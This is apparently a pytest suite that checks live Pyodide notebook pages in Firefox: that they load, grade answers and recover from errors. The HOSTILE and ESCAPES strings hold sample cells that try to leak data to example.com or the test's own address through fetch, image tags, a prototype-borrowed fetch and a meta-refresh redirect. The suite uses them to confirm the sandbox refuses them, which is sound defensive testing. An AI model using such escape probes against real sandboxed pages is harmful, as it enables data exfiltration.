"""Live pages in Firefox, which playwright cannot drive as a system installs it: one walk, many questions."""

from __future__ import annotations

import json
import re
import subprocess

import pytest

from book.live import assets
from book.live.text import TEXT
from interconnect_lab import exercises, labs
from tools import browser
from tools.browser import ROOT

CHAPTERS = sorted(path.stem for path in (ROOT / "notebooks").glob("[0-9][0-9]_*.ipynb"))
PAGES = {f"notebooks/{name}.html": int(name[:2]) for name in CHAPTERS}
FIRST = next(iter(PAGES))

HOSTILE = """
from IPython.display import HTML
from pyodide.http import open_url
import ipywidgets, js
raised = []
for way, place in ((js.fetch, "HERE"), (js.fetch, "https://example.com/"), (open_url, "HERE")):
    try:
        way(place + "leak")
    except Exception as error:
        raised.append(type(error).__name__)
display(HTML("<img src='/leak-1.png'><img src='https://example.com/leak-2.png'>"))
display(ipywidgets.HTML("<img src='/leak-3.png'><img src='https://example.com/leak-4.png'>"))
print(f"{len(raised)} attempts: {raised}")
"""
ESCAPES = """
import ipywidgets, js
try:
    await js.WorkerGlobalScope.prototype.fetch.call(None, "HEREescape-by-prototype")
except Exception:
    pass
display(ipywidgets.HTML("<meta http-equiv=refresh content='0;url=HEREescape-by-refresh'>"))
print("tri" + "ed")
"""
# Firefox's own word on a worker that is ended inside WebAssembly: no page hears it or can silence it.
KILLED = "Error: uncaught exception: undefined"


@pytest.fixture(scope="module")
def walk(address, seen):
    """What happened on a walk through all chapters, as ``firefox.mjs`` reports it."""
    seen.clear()
    pages = {page: asked(chapter) for page, chapter in PAGES.items()}
    task = {"address": address, "firefox": browser.firefox(), "pages": pages}
    task |= {"hostile": HOSTILE.replace("HERE", address), "escapes": ESCAPES.replace("HERE", address)}
    command = [assets.program("node"), "tests/browser/firefox.mjs", json.dumps(task)]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=400, check=False)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout.splitlines()[-1])
    assert "error" not in report, report["error"]
    return report["pages"] | {"seen": list(seen)}


def question(chapter):
    return next(one for one in exercises.chapter(chapter) if one.kind == "quantity")


def asked(chapter):
    """A question of the chapter with a wrong answer, a trap and the right one."""
    one = question(chapter)
    return {"exercise": one.name, "answers": ["7e40", str(one.traps[0].answer), str(one.answer)]}


def words(text):
    """What a text says, without markup and signs."""
    return " ".join(re.sub(r"\W+", " ", re.sub("<[^>]*>", "", text)).split())


@pytest.mark.parametrize("page", PAGES)
def test_firefox_brings_each_chapter_to_life_without_complaint_or_other_origin(walk, address, page):
    assert walk[page]["said"] == TEXT["ready"]
    assert walk[page]["complaintsBefore"] == []
    assert len(walk[page]["start"]) > 20, "Firefox tells what a page and its worker ask"
    assert [url for url in walk[page]["start"] if not url.startswith(address)] == []


@pytest.mark.parametrize("page", PAGES)
def test_every_lab_moves_by_key_in_firefox_and_its_picture_is_described(walk, page):
    names = labs.LABS[f"chapter{PAGES[page]:02}"]
    assert walk[page]["moved"] == dict.fromkeys(names, "described")


@pytest.mark.parametrize("page", PAGES)
def test_exercises_know_wrong_trap_and_right_in_firefox(walk, page):
    answers = asked(PAGES[page])["answers"]
    for said, answer, verdict in zip(
        walk[page]["verdicts"], answers, ("Not yet", "Not yet", "Right"), strict=True
    ):
        message = question(PAGES[page]).check(answer).message
        assert words(said) == f"{verdict} {words(message)}"


def test_a_cell_is_broken_and_mended_in_firefox(walk):
    assert "division by zero" in walk[FIRST]["broken"]
    assert walk[FIRST]["mended"].strip() == "mended 42"


@pytest.mark.parametrize("page", PAGES)
def test_firefox_asks_nothing_of_anyone_once_the_page_is_ready(walk, page):
    assert walk[page]["requestsAfter"] == []


def test_firefox_refuses_what_a_hostile_cell_asks_for(walk):
    assert "3 attempts" in walk[FIRST]["hostile"]
    assert [path for path in walk["seen"] if "leak" in path] == []
    refused = [
        re.search(r"leak-\d", said) for said in walk[FIRST]["refused"] if "Content-Security-Policy" in said
    ]
    assert len(refused) == len(walk[FIRST]["refused"]), walk[FIRST]["refused"]
    assert {found and found[0] for found in refused} == {"leak-1", "leak-2", "leak-3", "leak-4"}


def test_no_way_around_leads_out_of_a_ready_page_in_firefox(walk):
    assert [path for path in walk["seen"] if "escape" in path] == []


def test_stop_ends_an_endless_cell_in_firefox_and_the_page_lives_again(walk):
    assert walk[FIRST]["stopped"] == "stopped"
    assert walk[FIRST]["again"] == TEXT["ready"]
    assert walk[FIRST]["movedAgain"] == walk[FIRST]["moved"]
    assert set(walk[FIRST]["complaintsAgain"]) <= {KILLED}
